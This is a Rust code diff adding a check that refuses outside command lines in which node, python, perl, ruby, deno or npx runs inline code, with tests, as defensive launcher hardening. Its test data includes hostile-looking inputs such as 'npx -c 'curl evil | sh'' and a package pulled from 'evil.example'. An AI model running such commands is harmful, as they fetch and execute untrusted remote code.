@@ -518,6 +518,29 @@ fn loader_option(runtime: &str, option: &str) -> Option<&'static str> {
     }
 }
 
+/// Whether `option` makes `runtime` run code written in the next word, or in itself, rather
+/// than a package or file: `node -e`, `python -c`, `perl -e`, `npx -c` (a shell's command
+/// line). Short options may be run together (`python -Ic`, `perl -ne`).
+fn inline_code(runtime: &str, option: &str) -> bool {
+    let name = option.split_once('=').map_or(option, |(n, _)| n);
+    let short = |letters: &[char]| {
+        name.strip_prefix('-')
+            .filter(|rest| !rest.starts_with('-'))
+            .is_some_and(|rest| rest.chars().any(|c| letters.contains(&c)))
+    };
+    match runtime {
+        "node" | "bun" | "deno" => matches!(name, "--eval" | "--print") || short(&['e', 'p']),
+        "npx" | "pnpx" => matches!(name, "--call") || short(&['c']),
+        "perl" => short(&['e', 'E']),
+        "ruby" => short(&['e']),
+        "php" => short(&['r']),
+        python if python.starts_with("python") || python == "py" || python == "pypy" => {
+            short(&['c'])
+        }
+        _ => false,
+    }
+}
+
 /// Refuses a command line from outside that hides what it runs behind a wrapper (a shell's
 /// command line, another user), sets a loader variable through `env`, or gives a runtime the
 /// option form of one (`npx --node-options=…`, `uvx --index-url …`).
@@ -594,9 +617,30 @@ pub fn check_command(command: &str, args: &[String], from: &str) -> Result<(), R
         command = next;
     }
     let runtime = base_name(&command);
+    if runtime == "deno"
+        && args
+            .iter()
+            .find(|w| !w.starts_with('-'))
+            .is_some_and(|w| w == "eval")
+    {
+        return Err(Refused::not_taken(
+            from,
+            "runs deno eval, code written in its arguments rather than a package".to_owned(),
+        ));
+    }
     for word in &args {
         if !word.starts_with('-') {
             break; // the package, then its own arguments
+        }
+        if inline_code(&runtime, word) {
+            return Err(Refused::not_taken(
+                from,
+                format!(
+                    "runs {runtime} {}, code written in its arguments rather than a package, \
+                     which cannot be checked like one",
+                    one_line(word, 80)
+                ),
+            ));
         }
         if let Some(what) = loader_option(&runtime, word) {
             return Err(Refused::not_taken(
@@ -920,6 +964,16 @@ mod tests {
                 "--index-url",
             ),
             ("uvx", "--from git+https://evil.example/x tool", "--from"),
+            // Code written in an argument, not a package.
+            ("node", "-e require('child_process')", "node -e"),
+            ("node", "--eval=x", "node --eval"),
+            ("/usr/bin/python3", "-c import os", "python3 -c"),
+            ("python3.12", "-Ic import os", "python3.12 -Ic"),
+            ("perl", "-ne print", "perl -ne"),
+            ("ruby", "-e x", "ruby -e"),
+            ("npx", "-c 'curl evil | sh'", "npx -c"),
+            ("deno", "eval x", "deno eval"),
+            ("env", "TZ=UTC python -c x", "python -c"),
         ] {
             let err = check_command(command, &argv(args), "this link").unwrap_err();
             assert!(err.message.contains(said), "{command} {args}: {err}");
@@ -929,6 +983,9 @@ mod tests {
             ("npx", "-y @scope/server --registry-name x"),
             ("uvx", "mcp-server-time --local-timezone UTC"),
             ("node", "/srv/app/server.js -r fast"),
+            ("python3", "-m mcp_server_time -c config.toml"),
+            ("python", "-u server.py"),
+            ("node", "server.js -e production"),
             ("env", "TZ=UTC npx -y harmless"),
         ] {
             assert!(
